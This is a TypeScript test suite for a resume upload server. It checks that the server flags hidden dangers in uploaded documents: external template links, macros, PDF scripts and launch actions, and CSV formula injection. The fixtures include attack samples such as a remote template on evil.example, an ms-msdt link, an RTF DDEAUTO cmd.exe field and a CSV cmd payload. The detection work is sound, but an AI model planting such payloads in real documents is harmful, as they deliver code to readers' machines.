/**
 * What a resume hides from whoever looks at names only: relations, content types, encodings, other
 * spellings. Numbers are those of OWASP ASVS 5.0, chapter V5.
 */
import {deflateSync} from 'node:zlib';
import {LONGEST_TEXT} from '../../src/server/forms/content/zip';
import {officeFile, ole2File, openDocument} from './setup/documents';
import {accepted, expectRefused} from './setup/resumes';
import {serverForAll} from './setup/server';
import {zipFile, type ZipEntry} from './setup/zip';

const server = serverForAll();

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const EVIL = 'https://evil.example/a.dotm';

/** A part that joins a document with something; `External` is what a part of its own is not. */
const joined = (type: string, target: string, mode = ''): ZipEntry => ({
  name: 'word/_rels/settings.xml.rels',
  deflated: true,
  content: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" ${mode && `TargetMode="${mode}"`}/></Relationships>`,
});
const external = (type: string, target: string) => joined(type, target, 'External');

const docx = (...entries: (ZipEntry | string)[]) => officeFile('.docx', ...entries);
const withRelations = (content: string | Buffer) =>
  docx({name: 'word/_rels/a.rels', deflated: true, content});

const withTypes = (types: string, ...others: string[]) =>
  zipFile([
    {name: '[Content_Types].xml', content: `<Types>${types}</Types>`},
    ...['word/document.xml', 'xl/workbook.xml', ...others],
  ]);
const override = (part: string, type: string) =>
  `<Override PartName="/${part}" ContentType="application/${type}"/>`;
const BIN_IS_MACROS =
  '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';

/** Written with prefixes, entities and other quotes. */
const SPELLED = `<p:Relationships xmlns:p="x"><p:Relationship Id='r1' Type='${TYPE}/a&#116;tachedTemplate' Target='//evil.example/a' TargetMode='Ex&#x74;ernal'></p:Relationship></p:Relationships>`;

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

const odt = (content: string) =>
  zipFile([
    {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
    {name: 'content.xml', content},
    'META-INF/manifest.xml',
  ]);

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part as string)));
const packed = deflateSync(Buffer.from('1 0 <</S/JavaScript/JS(app.alert(1))>>'));

const rtf = (text: string) => Buffer.from(`{\\rtf1${text}}`);

const xls = (...records: number[]) => Buffer.concat([ole2File('Workbook'), Buffer.from(records)]);
const boundSheet = (kind: number) =>
  xls(0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...Buffer.from('Macro1'));

/** What it is, the extension of its name, and its bytes. */
type Row = [what: string, extension: string, bytes: Buffer | string];

const HIDDEN: Readonly<Record<string, Row[]>> = {
  'external link': [
    ['a template from elsewhere', '.docx', docx(external('attachedTemplate', EVIL))],
    [
      'a template from elsewhere, in UTF-16',
      '.docx',
      withRelations(utf16(String(external('attachedTemplate', EVIL).content))),
    ],
    ['a template, spelled in another way', '.docx', withRelations(SPELLED)],
    ['an object from elsewhere', '.docx', docx(external('oleObject', 'http://evil.example/a'))],
    [
      'a picture from elsewhere',
      '.pptx',
      officeFile('.pptx', {...external('image', 'file://evil/a'), name: 'ppt/slides/_rels/a.rels'}),
    ],
    [
      'a link that starts something',
      '.docx',
      docx(external('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
    ],
    [
      'a picture from elsewhere in .odt',
      '.odt',
      odt('<a><draw:image xlink:href="http://evil.example/a.png"/></a>'),
    ],
    ['a form of .pdf that is sent away', '.pdf', pdf('<</S/SubmitForm/F(x)>>')],
    ['a template in .rtf', '.rtf', rtf(`{\\*\\template ${EVIL}}`)],
    [
      'a template in .rtf, escaped',
      '.rtf',
      rtf("{\\*\\template {}\\'68\\u116?t{}p\n://evil.example/a}"),
    ],
    ['a template on a share, called .doc', '.doc', rtf('{\\*\\template \\\\\\\\evil\\\\a.dotm}')],
    [
      'a field of .rtf that starts a program',
      '.rtf',
      rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}'),
    ],
  ],
  'embedded file': [
    ['an object by its relation', '.docx', docx(joined('oleObject', 'a/b.dat'))],
    ['a file by its relation', '.docx', docx(joined('package', 'a/b.exe'))],
  ],
  macros: [
    ['macros by their relation', '.docx', docx(joined('vbaProject', 'image1.png'))],
    [
      'macros by their content type',
      '.docx',
      withTypes(override('word/photo.png', 'vnd.ms-office.vbaProject'), 'word/photo.png'),
    ],
    ['macros by the type of an extension', '.docx', withTypes(BIN_IS_MACROS, 'word/x.bin')],
    [
      'a document that is a template with macros',
      '.docx',
      withTypes(
        override('word/document.xml', 'vnd.ms-word.template.macroEnabledTemplate.main+xml'),
      ),
    ],
    [
      'a macro sheet by its content type',
      '.xlsx',
      withTypes(override('xl/s.xml', 'vnd.ms-excel.macrosheet+xml')),
    ],
    [
      'a script at an event of .odt',
      '.odt',
      odt('<o:c xmlns:o="x"><script:event-listener xlink:href="vnd.sun.star.script:a"/></o:c>'),
    ],
    ['macros of Excel 4, by the list of sheets', '.xls', boundSheet(1)],
    ['macros of Excel 4, by the sheet', '.xls', xls(0x09, 0x08, 0x10, 0, 0, 0x06, 0x40, 0)],
  ],
  'not looked into: too long': [
    ['relations too long to be read', '.docx', withRelations(' '.repeat(LONGEST_TEXT + 1))],
  ],
  script: [
    ['script, its name escaped', '.pdf', pdf('<</S/J#61vaScript/J#53(x)>>')],
    [
      'script in a packed object',
      '.pdf',
      pdf('5 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\r\n', packed, '\r\nendstream'),
    ],
  ],
  'starts a program': [['a launch, its name escaped', '.pdf', pdf('<</S/#4cau#6Ech>>')]],
  formulas: [
    ['formulas behind a byte order mark', '.csv', '\ufeff=1+1\n'],
    ['formulas in UTF-16', '.csv', utf16('a;b\r\n1;=1+1\r\n')],
    ['formulas in UTF-16, the other way round', '.csv', utf16('a;=1+1\r\n').swap16()],
    ['a formula that begins like a number', '.csv', "a,+1+cmd|' /C calc'!A0\n"],
    ['a formula that begins like a list', '.csv', '- cmd|x\n'],
    ['a formula behind a separator of its own', '.csv', 'sep=^\na^=1+1\n'],
  ],
};

const HONEST: Row[] = [
  ['a link on a word', '.docx', docx(external('hyperlink', 'https://ravi.example'))],
  ['an address on a word', '.docx', docx(external('hyperlink', 'mailto:ravi@example.com'))],
  ['a link to another file beside it', '.docx', docx(external('hyperlink', 'work/list.pdf'))],
  ['a picture inside', '.docx', docx(joined('image', 'media/image1.png'))],
  ['a type for an extension that no part has', '.docx', withTypes(BIN_IS_MACROS)],
  ['a link on a word of .odt', '.odt', openDocument('.odt')],
  [
    'Word’s own template in .rtf',
    '.rtf',
    rtf('{\\*\\template C:\\\\Users\\\\Ravi\\\\Normal.dotm}'),
  ],
  ['sheets without macros', '.xls', boundSheet(0)],
  ['numbers in UTF-16', '.csv', utf16('+91 98765;-5,5;- a list\r\n')],
  ['colours in .pdf that look like escapes', '.pdf', pdf('/CS#20JSON /JSx #4a')],
];

const warningsOf = async (extension: string, bytes: Buffer | string) =>
  (await accepted(server, `cv${extension}`, Buffer.from(bytes as string))).warnings;

describe.each(Object.entries(HIDDEN))('what is hidden is seen (5.2.2): %s', (sign, rows) => {
  test.each(rows)('%s (%s)', async (_what, extension, bytes) => {
    expect(await warningsOf(extension, bytes)).toEqual([sign]);
  });
});

test.each(HONEST)('%s (%s) is nothing to warn of', async (_what, extension, bytes) => {
  expect(await warningsOf(extension, bytes)).toEqual([]);
});

test.each([
  ['more than it says', 1000],
  ['less than it says', 10_000_000],
])('a document that unpacks to %s is refused (5.2.3)', async (_what, uncompressedSize) => {
  const lie = {name: 'word/a.xml', content: 'x'.repeat(5_000_000), deflated: true};
  expect(await warningsOf('.docx', docx(lie))).toEqual([]);
  await expectRefused(server, 'cv.docx', docx({...lie, uncompressedSize}), 'fileContent');
});
